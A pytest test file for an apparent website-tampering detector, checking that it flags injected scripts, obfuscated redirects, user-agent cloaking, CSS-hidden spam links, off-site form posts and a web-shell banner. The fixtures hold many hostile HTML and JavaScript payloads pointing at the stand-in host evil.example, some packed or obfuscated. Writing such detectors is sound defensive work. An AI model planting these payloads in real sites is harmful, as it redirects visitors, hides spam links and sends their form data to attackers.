"""How attackers bring in code, lead visitors away and hide links, besides the plain ways."""

from dataclasses import replace
from datetime import timedelta

import pytest

from sentinel.kit.content.judge import Word
from sentinel.model.event import Event
from tests.kit.content.pages import judged, page
from tests.kit.content.watch import Watch, answer, sent_to

SCRIPTS = {
    "an element that a script makes": "<script>s=document.createElement('script');s.src='//evil.example/a'</script>",
    "as counters do it": "<script>(function(d,t,u){s=d.createElement(t);s.src=u})(document,'script',"
    "'//evil.example/c.js?v=1')</script>",
    "a module": "<script type=module>import x from 'https://evil.example/m'</script>",
    "a module later": "<script>import('https://evil.example/m')</script>",
    "in a drawing": '<svg><script xlink:href="https://evil.example/a.js"></script></svg>',
    "behind a thousand others": "<script src=/a.js></script>" * 1_100 + "<script src=//evil.example/a.js></script>",
}
PACKED = (
    "<script>eval(function(p,a,c,k,e,d){return p}('0.1=\\'2://4.3/\\';',9,5,'location|href|https|example|evil'"
    ".split('|'),0,{}))</script>"
)
INJECTED = {
    "all addresses are another site's": ("<base href='//evil.example/'>", ""),
    "refresh behind many others": (
        "<meta name=a content=b>" * 250 + "<meta http-equiv=refresh content='0,//evil.example'>",
        "",
    ),
    "a button's own address": ("", "<form><input name=nik><button formaction=//evil.example/>Kirim</button></form>"),
    "an original among other words": ("<link rel='x Canonical' href=//evil.example/>", ""),
    "what an event runs": ("", "<img src=x onerror=\"location='https://evil.example/'\">"),
    "a link that is a script": ("", "<a href=\"javascript:location.href='https://evil.example/'\">lanjut</a>"),
    "a place by its name": ("", "<script>location['href']='https://evil.example/'</script>"),
    "a place kept in a name": ("", "<script>var u='https://evil.example/';window.location.href = u;</script>"),
    "a place kept in a setting": ("", "<script>k={url:'//evil.example/'};location.replace(k.url)</script>"),
    "packed": ("", PACKED),
    "names made by a machine, beside a stranger": (
        "",
        "<script>var _0x4be2=['a','b'];(function(a){})(_0x4be2)</script><script src='//evil.example/a.js'></script>",
    ),
    "robots led within the site": (
        "",
        "<script>if(/Googlebot/.test(navigator.userAgent)){location.href='/wp-content/x/'}</script>",
    ),
    "a stranger in pieces": (
        "",
        "<script>if(/Android/.test(navigator.userAgent)){location.href='/'+'/evil.example/'}</script>",
    ),
    "telephones led to a stranger": (
        "",
        "<script>if(/Android/.test(navigator.userAgent)){window.location.href='//evil.example/m/'}</script>",
    ),
    "written in six signs": ("", f"<script>{'[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]' * 8}</script>"),
    "a name in pieces": ("", "<script>window['ev' + 'al'](k)</script>"),
    "the 301st script": ("", "<script>1</script>" * 301 + "<script>location='//evil.example/'</script>"),
    "far down in a script": ("", f"<script>/*{'a' * 250_000}*/location='//evil.example/'</script>"),
}
LINK = "<a href='https://dinas-lain.go.id/berita'>info</a>"
HIDDEN = {
    "far above": f"<div style='display:none'>{'<div>' * 20}{LINK}{'</div>' * 21}",
    "a note in the style": f"<p style='display:/**/none'>{LINK}",
    "an escaped letter": f"<p style='d\\69 splay:none'>{LINK}",
    "a script": f"<p id=kotak>{LINK}</p><script>document.getElementById('kotak').style.display='none'</script>",
    "a long rule": f"<style>.q{{{'margin:0;' * 100}display:none}}</style><p class=q>{LINK}",
    "the 51st sheet": f"{'<style></style>' * 50}<style>.q{{display:none}}</style><p class=q>{LINK}",
    "next to nothing": f"<p style='opacity:.01'>{LINK}",
    "no colour": f"<p style='color:rgba(0,0,0,0)'>{LINK}",
    "moved away": f"<p style='transform:translateX(-9999px)'>{LINK}",
    "the colour that counts": f"<p style='color:#000;color:#fff;background:white'>{LINK}",
}


@pytest.mark.parametrize("body", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_scripts_that_are_brought_in_some_other_way_are_strangers_too(body: str) -> None:
    verdict = judged(page(body=body))
    assert (verdict.word, [(one.code, one.where) for one in verdict.reasons]) == (
        Word.CHANGED,
        [("script_host", "evil.example")],
    )


@pytest.mark.parametrize(("head", "body"), INJECTED.values(), ids=INJECTED.keys())
def test_what_leads_away_or_unpacks_itself_is_found(head: str, body: str) -> None:
    assert judged(page(head=head, body=body)).word is Word.INJECTED


@pytest.mark.parametrize("body", HIDDEN.values(), ids=HIDDEN.keys())
def test_a_hidden_link_is_found_however_it_is_hidden(body: str) -> None:
    assert [reason.code for reason in judged(page(body=body)).reasons] == ["hidden_link"]
    assert judged(page(body=LINK)).word is Word.CLEAN


def test_a_site_that_was_only_linked_may_not_bring_in_code_forms_or_frames() -> None:
    linked = page(body="<a href='https://mitra.example/'>Mitra</a>")
    for body, code in (
        ("<script src='https://mitra.example/a.js'></script>", "script_host"),
        ("<form action='https://mitra.example/'><input type=password></form>", "form_host"),
        ("<iframe src='https://mitra.example/'></iframe>", "frame_host"),
        ("<meta http-equiv=refresh content='0;url=https://mitra.example/'>", "meta_refresh"),
        ("<script>location='https://mitra.example/'</script>", "hostile_code"),
    ):
        assert [reason.code for reason in judged(page(body=body), linked).reasons] == [code]
        assert codes(Watch().settle(linked, linked, linked).see(page(body=body))) == [code]
        assert judged(page(body=body), page(body=body)).word is Word.CLEAN


def codes(event: Event) -> object:
    return event["sentinel.content.reasons"]


def cut(body: str) -> Event:
    """A look at a page that is longer than anybody reads."""
    trail = answer(body)
    return Watch().settle().see(replace(trail, exchanges=(replace(trail.exchanges[0], truncated=True),)))


def test_of_a_page_that_is_cut_what_is_there_counts_and_what_is_not_does_not() -> None:
    form = "<form action='https://evil.example/'><input name=nik></form>"
    assert codes(cut(page(body=form))) == ["form_host"]
    assert (codes(event := cut("<h1>Halaman lain</h1>")), event["sentinel.content.verdict"]) == ([], "unknown")


def test_a_refresh_in_the_headers_leads_away_as_a_redirect_does() -> None:
    watch = Watch().settle()
    event = watch.see(page(), V2=answer(page(), 200, "text/html", ("refresh", "0;url=https://evil.example/")))
    assert watch.matches(event) == {"content_cloaked"}
    assert codes(watch.see(page(), V2=answer(page(), 200, "text/html", ("refresh", "300")))) == []


def test_an_original_that_only_a_header_names_is_an_original() -> None:
    watch, named = Watch().settle(), ("link", '</a.css>; rel=preload, <https://evil.example/>; rel="canonical"')
    assert codes(watch.see(answer(page(), 200, "text/html", named))) == ["canonical_moved"]
    assert codes(watch.see(answer(page(), 200, "text/html", ("link", "<https://kpu.test/>; rel=shortlink")))) == []


def test_a_wall_that_sends_visitors_elsewhere_is_none() -> None:
    wall = "<title>Just a moment...</title><meta http-equiv=refresh content='3;url=https://evil.example/'>"
    assert codes(Watch().settle().see(wall)) == ["meta_refresh"]


def test_some_visitors_sent_to_a_site_that_everybody_uses_are_worth_a_look() -> None:
    watch = Watch().settle()
    event = watch.see(page(), V2=sent_to("https://sites.google.com/view/daftar"))
    assert (event["sentinel.content.verdict"], codes(event)) == ("changed", ["cloaked"])


def test_that_nothing_has_changed_is_believed_by_none_who_did_not_ask() -> None:
    watch = Watch().settle()
    event = watch.see(page(), V1=answer("", 304))
    assert event["sentinel.content.views_unseen"] == ["V1"]
    assert watch.see(answer("", 304))["sentinel.content.verdict"] == "clean"


@pytest.mark.parametrize("field", ["<input type=file>", "<input type=password>"])
def test_a_form_of_long_ago_excuses_no_web_shell(field: str) -> None:
    watch = Watch(every=timedelta(hours=1))
    form = f"<form action=/kirim><p>Kirim berkas</p>{field}</form>"
    watch.see(page(body=form))
    watch.settle()
    controls = "<pre>uname -a: Linux | safe mode: off | /etc/passwd | chmod | execute command</pre>"
    event = watch.see(page(body=controls + form))
    assert "web_shell" in str(event["sentinel.content.reasons"])
    kept = Watch(every=timedelta(hours=1))
    kept.see(page(body=form))
    assert "web_shell" not in str(kept.see(page(body=controls + form))["sentinel.content.reasons"])
